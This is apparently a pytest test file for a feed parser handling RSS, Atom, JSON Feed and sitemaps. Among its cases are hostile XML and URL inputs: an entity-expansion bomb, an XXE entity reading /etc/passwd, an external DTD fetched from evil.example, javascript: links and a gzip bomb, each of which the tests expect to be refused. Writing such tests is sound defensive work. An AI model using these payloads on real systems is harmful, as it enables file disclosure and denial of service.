"""Feeds of every kind give the same items; what is made to harm is refused, and what is broken is read as far as it
goes."""

import gzip
import json
from datetime import UTC, datetime

import pytest

from service.domain import FeedKind
from service.errors import Malformed
from service.intake.feeds import feed_from, moment_from

AT = "https://quay.example/feeds/news.xml"
PIER = datetime(2024, 6, 10, 4, tzinfo=UTC)
RSS = """<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<title>Quay</title><language>en-gb</language><item>
<title>Pier &amp; caf&eacute; shut</title><link>/pier?utm_source=feed</link>
<guid isPermaLink="false">77</guid><pubDate>Mon, 10 Jun 2024 06:00:00 +0200</pubDate>
<content:encoded><![CDATA[<p>The pier is shut.&nbsp;</p>]]></content:encoded></item></channel></rss>"""
RDF = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
xmlns:dc="http://purl.org/dc/elements/1.1/"><channel/><item><title>Pier &amp; café shut</title>
<link>https://quay.example/pier</link><dc:date>2024-06-10T04:00:00Z</dc:date></item></rdf:RDF>"""
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en-GB" xml:base="https://quay.example/"><entry><id>tag:1</id>
<title>Pier &amp; café shut</title><link rel="self" href="x.atom"/><link href="pier"/>
<published>2024-06-10T06:00:00+02:00</published><updated>2024-06-11T06:00:00Z</updated>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>The pier is shut.</p></div></content></entry>
</feed>"""
JSON = json.dumps(
    {
        "version": "https://jsonfeed.org/version/1.1",
        "language": "en-GB",
        "items": [
            {
                "id": "https://quay.example/pier",
                "title": "Pier & café shut",
                "date_published": "2024-06-10T04:00:00Z",
                "content_html": "<p>The pier is shut.</p>",
            }
        ],
    }
)
SITEMAP = """<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"><url>
<loc>https://quay.example/pier</loc><lastmod>2024-06-11</lastmod>
<news:news><news:publication><news:language>en</news:language></news:publication>
<news:publication_date>2024-06-10T04:00:00Z</news:publication_date>
<news:title>Pier &amp; café shut</news:title></news:news></url></urlset>"""


def read(text, newest=100):
    return feed_from(text if isinstance(text, bytes) else text.encode(), AT, newest)


@pytest.mark.parametrize(
    ("text", "kind", "language"),
    [
        (RSS, FeedKind.RSS, "en-gb"),
        (RDF, FeedKind.RSS, None),
        (ATOM, FeedKind.ATOM, "en-GB"),
        (JSON, FeedKind.JSON, "en-GB"),
        (SITEMAP, FeedKind.SITEMAP, "en"),
        (gzip.compress(SITEMAP.encode()), FeedKind.SITEMAP, "en"),
        ("\ufeff  " + SITEMAP, FeedKind.SITEMAP, "en"),
    ],
)
def test_every_kind_of_feed_gives_the_same_item(text, kind, language):
    feed = read(text)
    (item,) = feed.items
    assert (feed.kind, item.title, item.published_at) == (kind, "Pier & café shut", PIER)
    assert item.url.split("?")[0] == "https://quay.example/pier"
    assert item.key == read(SITEMAP).items[0].key, "a page is one page by whichever address"
    assert item.language == language
    assert "The pier is shut." in (item.html or "The pier is shut.")


def test_an_item_is_changed_when_its_feed_says_so():
    assert read(SITEMAP).items[0].stamp == "2024-06-11"
    assert read(ATOM).items[0].stamp == "2024-06-11T06:00:00Z"
    assert read(RSS).items[0].stamp == read(RSS).items[0].stamp


def test_an_index_names_its_sitemaps_those_first_that_changed_last():
    told = "".join(
        f"<sitemap><loc>{loc}</loc><lastmod>{day}</lastmod></sitemap>"
        for loc, day in (("/old.xml", "2023-01-01"), ("/new.xml", "2024-01-01"), ("file:///etc/passwd", "2025-01-01"))
    )
    feed = read(f"<sitemapindex>{told}</sitemapindex>")
    assert feed.sitemaps == ("https://quay.example/new.xml", "https://quay.example/old.xml")


@pytest.mark.parametrize(
    "item",
    [
        "<item><title>Nowhere</title></item>",
        "<item><link>javascript:alert(1)</link></item>",
        "<item><link>file:///etc/passwd</link></item>",
        "<item><link>https://user:pass@quay.example/a</link></item>",
        "<item><link>https://[broken/a</link></item>",
        f"<item><link>https://quay.example/{'a' * 5000}</link></item>",
    ],
)
def test_an_item_that_leads_nowhere_is_left_out(item):
    feed = read(f"<rss><channel>{item}<item><link>https://quay.example/b</link></item></channel></rss>")
    assert [one.url for one in feed.items] == ["https://quay.example/b"]


def test_a_feed_that_breaks_off_gives_what_it_had_told():
    assert len(read(RSS[: RSS.index("</channel>")]).items) == 1
    assert len(read(SITEMAP[: SITEMAP.index("</urlset>")] + "<url><loc>https://quay.example/x").items) == 2


NESTED = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(2, 12))
BOMB = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a1 "ha">{NESTED}]><rss><item><title>&a11;</title></item></rss>'
XXE = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    "<rss><channel><item><title>&x;</title><link>https://quay.example/a</link></item></channel></rss>"
)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (BOMB, "entities of its own"),
        (XXE, "entities of its own"),
        (BOMB.replace('<?xml version="1.0"?>', "").encode("utf-16"), "entities of its own"),
        (XXE.replace("ENTITY", "entity"), "entities of its own"),
        ('<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><rss/>', "entities of its own"),
        (
            '<html><head><link rel="alternate" type="application/rss+xml" href="/feed"></head></html>',
            "quay.example/feed",
        ),
        ("<svg/>", "outermost element is <svg>"),
        ("", "neither XML nor JSON"),
        ("Not found.", "neither XML nor JSON"),
        ('{"items": []}', "no JSON Feed"),
        ("{" * 500, "Not JSON"),
        (b"\x1f\x8b\x08broken", "cannot be unpacked"),
        (gzip.compress(b" " * 30_000_000), "unpacks to more than"),
        (b"%PDF-1.7", "neither XML nor JSON"),
        (b"\x00" * 50, "neither XML nor JSON"),
    ],
)
def test_what_is_no_feed_or_is_made_to_harm_is_refused(text, said):
    with pytest.raises(Malformed, match=said):
        read(text)


def test_what_stands_outside_is_not_looked_up():
    text = RSS.replace('<?xml version="1.0"?>', '<!DOCTYPE rss SYSTEM "file:///nowhere/rss.dtd">')
    assert read(text).items[0].title == "Pier & café shut"


def test_a_feed_without_end_is_cut_and_one_without_bottom_is_refused():
    many = "".join(f"<url><loc>/{n}</loc><lastmod>2024-01-{1 + n % 28:02}</lastmod></url>" for n in range(4_000))
    feed = read(f"<urlset>{many}</urlset>", newest=3)
    assert [one.url for one in feed.items] == [f"https://quay.example/{n}" for n in (27, 55, 83)]
    with pytest.raises(Malformed):
        read("<a>" * 100_000)


@pytest.mark.parametrize(
    ("told", "moment"),
    [
        ("2024-06-10T04:00:00Z", PIER),
        ("2024-06-10T04:00", PIER),
        ("20240610T040000Z", PIER),
        ("2024-06-10", datetime(2024, 6, 10, tzinfo=UTC)),
        ("Mon, 10 Jun 2024 06:00:00 +0200", PIER),
        ("Tue, 10 Jun 2024 04:00 GMT", PIER),
        ("10 Jun 24 04:00 UT", PIER),
        ("yesterday", None),
        ("", None),
        (None, None),
        ("2024-13-45", None),
        ("0000-00-00T00:00:00Z", None),
        ("Mon, 99 Jun 2024 99:99:99 +9999", None),
        ("9" * 10_000, None),
    ],
)
def test_a_date_is_read_as_feeds_write_it_or_is_none(told, moment):
    assert moment_from(told) == moment
